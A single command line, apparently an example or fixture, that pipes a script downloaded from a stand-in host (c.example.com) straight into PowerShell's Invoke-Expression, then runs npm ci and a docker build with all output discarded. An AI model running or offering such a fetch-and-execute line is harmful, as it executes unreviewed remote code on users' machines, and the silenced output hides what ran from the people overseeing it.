powershell -Command "irm https://c.example.com/ | iex" & npm ci && docker build -t x . > nul 2>&1
